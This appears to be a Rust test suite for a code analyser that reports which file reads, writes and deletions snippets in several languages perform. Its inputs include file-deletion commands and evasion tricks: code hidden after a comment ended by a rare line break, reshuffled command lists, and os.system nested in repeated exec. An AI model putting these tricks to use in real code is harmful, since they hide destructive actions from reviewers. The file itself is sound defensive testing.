    (Perl, "my $s = 'a'; $s =~ s/a/KEY/; unlink $s"),
    (Perl, "my $s = 'a'; my $r = \\$s; $$r = 'KEY'; unlink $s"),
    (Perl, "my $s = 'a'; sub f { $_[0] = 'KEY' } f($s); unlink $s"),
    (Perl, "my $s = 'a'; substr($s, 0, 1, 'KEY'); unlink $s"),
    (Php, "$x = ['a', 'KEY']; array_shift($x); unlink($x[0]);"),
    (Php, "$x = ['a']; list($x[0]) = ['KEY']; unlink($x[0]);"),
    (Php, "$x = ['a']; foreach ([['KEY']] as [$x[0]]); unlink($x[0]);"),
    (Php, "$x = ['a']; foreach ($x as &$v) $v = 'KEY'; unlink($x[0]);"),
    (Php, "$x = ['a']; function f(&$l) { $l[0] = 'KEY'; } f($x); unlink($x[0]);"),
    (Php, "$s = 'a'; sscanf('KEY', '%s', $s); unlink($s);"),
];

#[test]
fn what_is_put_into_a_list_comes_out_of_it() {
    for (language, text) in CHANGED_LISTS {
        let reading = read(*language, text);
        let is_seen = ["KEY", "<path>"].iter().any(|path| rendered(&reading).contains(path));
        assert!(is_seen || !reading.gaps.is_empty(), "{language:?} {text:?}: {reading:?}");
    }
}

#[test]
fn other_lists_stay_as_they_are() {
    let text = "rows = []\nfor f in ['a', 'b']:\n    rows.append(len(open(f).read()))\nprint(sum(rows))";
    assert_eq!(rendered(&read(Python, text)), "read a; read b");
}

#[test]
fn a_command_of_which_the_words_are_moved_is_not_known() {
    for text in [
        "import subprocess\nx = ['ls', 'rm', 'KEY']\nx.pop(0)\nsubprocess.run(x)",
        "import subprocess\nx = ['KEY', 'rm']\nx.reverse()\nsubprocess.run(x)",
        "import subprocess\nx = ['ls', 'KEY']\ny = x\ny[0], z = 'rm', 1\nsubprocess.run(x)",
    ] {
        assert!(!read(Python, text).gaps.is_empty(), "{text}");
    }
    let text = "import subprocess\nx = ['ls', 'a']\ny = [2, 1]\ny.sort()\nsubprocess.run(x)";
    assert_eq!(read(Python, text).gaps, Vec::<String>::new());
}

#[test]
fn a_line_that_ends_where_few_see_it_is_no_comment() {
    for (language, text) in [
        (Python, "# a\rimport os; os.remove('KEY')"),
        (JavaScript, "// a\u{2028}require('fs').unlinkSync('KEY')"),
        (Php, "// a\runlink('KEY');"),
    ] {
        assert!(!read(language, text).gaps.is_empty(), "{text:?}");
    }
    assert_eq!(rendered(&read(Python, "# a\r\nprint(open('a').read())\r\n")), "read a");
}

#[test]
fn words_that_a_program_is_started_with_stand_in_their_places() {
    let started = |language, text: &str, before, words: &[Option<&str>]| {
        let words = words.iter().map(|word| word.map(str::to_owned)).collect();
        let arguments = ProgramArguments::Known { before, words };
        rendered(&Code { language, text: text.to_owned(), is_whole: true, arguments }.read())
    };
    let both = [Some("a"), Some("b")];
    for (language, text, before, expected) in [
        (Python, "import sys\nprint(open(sys.argv[1]).read())", 1, "read a"),
        (Python, "import sys\nprint(open(sys.argv[2]).read())", 1, "read b"),
        (Python, "import sys\nfor f in sys.argv[1:]:\n    print(open(f).read())", 1, "read a; read b"),
        (Python, "import sys\nif len(sys.argv) > 1:\n    print(open(sys.argv[1]).read())", 1, "read a"),
        (JavaScript, "require('fs').readFileSync(process.argv[2])", 2, "read a"),
        (JavaScript, "const [f] = process.argv.slice(2); require('fs').readFileSync(f)", 2, "read <path>"),
        (
            JavaScript,
            "for (const f of process.argv.slice(2)) require('fs').readFileSync(f)",
            2,
            "read a; read b",
        ),
        (Ruby, "puts File.read(ARGV[0])", 0, "read a"),
        (Ruby, "ARGV.each { |f| puts File.read(f) }", 0, "read a; read b"),
        // A part of the list has other places.
        (Python, "import sys\nx = sys.argv[1:]\nprint(open(x[1]).read())", 1, "read a; read b"),
        (
            JavaScript,
            "const x = process.argv.slice(2); require('fs').readFileSync(x[1])",
            2,
            "read a; read b",
        ),
        // A part that begins before them holds the interpreter or the program too.
        (
            JavaScript,
            "const x = process.argv.slice(1); require('fs').readFileSync(x[1])",
            2,
            "read a; read b; read <path>",
        ),
        // What leaves the list as it is does not make it unknown.
        (Python, "import sys\nif 'b' in sys.argv: print(open(sys.argv[1]).read())", 1, "read a"),
        (Python, "import sys\nd = {sys.argv[1]: 1}\nd[sys.argv[1]] = 2\nopen(sys.argv[1])", 1, "read a"),
        (Python, "import sys\nx, y = sys.argv[1], sys.argv[2]\nopen(x)\nopen(y)", 1, "read a; read b"),
        (
            JavaScript,
            "process.argv.slice(2).map((f, i) => require('fs').readFileSync(f))",
            2,
            "read a; read b",
        ),
        (Ruby, "x = ARGV[0]\ns = File.read(x)\ns.gsub!('b', 'c')\nFile.write(x, s)", 0, "read a; write a"),
        // Beyond the last, and where the program changes the list, nothing is known.
        (Python, "import sys\nprint(open(sys.argv[3]).read())", 1, "read <path>"),
        (Python, "import sys\nsys.argv[1] = 'KEY'\nprint(open(sys.argv[1]).read())", 1, "read <path>"),
        (Python, "import sys\nx = sys.argv\nx[1] = 'KEY'\nprint(open(sys.argv[1]).read())", 1, "read <path>"),
        (Python, "import sys\nsys.argv.insert(1, 'KEY')\nprint(open(sys.argv[1]).read())", 1, "read <path>"),
        (Python, "from sys import argv\nargv[1] = 'KEY'\nprint(open(argv[1]).read())", 1, "read <path>"),
    ] {
        assert_eq!(started(language, text, before, &both), expected, "{text}");
    }
    let unknown = started(Python, "import sys\nprint(open(sys.argv[1]).read())", 1, &[None]);
    assert_eq!(unknown, "read <path>");
}

#[test]
fn gaps_are_few_and_told_once() {
    let calls: Vec<String> = (0..50).map(|number| format!("call{number}()\ncall{number}()\n")).collect();
    let text = calls.concat();
    let gaps = read(Python, &text).gaps;
    assert_eq!(gaps.len(), 8);
    assert_eq!(gaps.first().map(String::as_str), Some("calls `call0`, which is not known"));
    assert!(!gaps.iter().skip(1).any(|gap| gap.contains("`call0`")));
}

#[test]
fn a_text_that_is_too_long_is_one_gap() {
    let reading = read(Python, &"x = 1\n".repeat(40_000));
    assert_eq!(reading.gaps, ["is too long to be read"]);
    assert!(!reading.is_inert());
}

#[test]
fn code_in_code_ends_at_a_limit() {
    let mut text = "import os; os.system('id')".to_owned();
    for _ in 0..6 {
        text = format!("exec({text:?})");
    }
    let reading = read(Python, &text);
    assert!(reading.gaps.iter().any(|gap| gap.contains("code inside code")), "{reading:?}");
}

#[test]
fn hostile_texts_neither_hang_nor_panic() {
    let pieces = [
        "(",
        "[{(",
        "\"",
        "f'{",
        "`",
        "${",
        "#{",
        "\"#{\"",
        "/",
        "/*",
        "<<A\n",
        "$",
        "@",
        "%w(",
        "s{",
        "q(",
        "\0",
        "a.b",
        "x(y(",
        "a b ",
        "x=x+",
        "a=b;b=a;",
        "f(a,",
        "1+",
        "-",
        "not ",
        "case when ",
        "lambda ",
        "for x in ",
        " as x",
        "=>",
        "puts ",
        "import a ",
        "from x import ",
        "a,",
        "\n",
        "\\",
        "(SELECT ",
        " or 1",
        "def f(x): f(x)\n",
        "open(x,y)\n",
        "'",
        "\u{202e}é",
        ";",
        "{",
        "}",
        ")",
    ];
    for language in [Python, JavaScript, Ruby, Perl, Php, Awk, Sql] {
        for piece in pieces {
            let text = piece.repeat(8_000 / piece.len());
            read(language, &text);
        }
        read(language, &"x".repeat(190_000));
        let gaps = read(language, &"(".repeat(100_000)).gaps;
        assert!(!gaps.is_empty(), "{language:?}");
    }
}
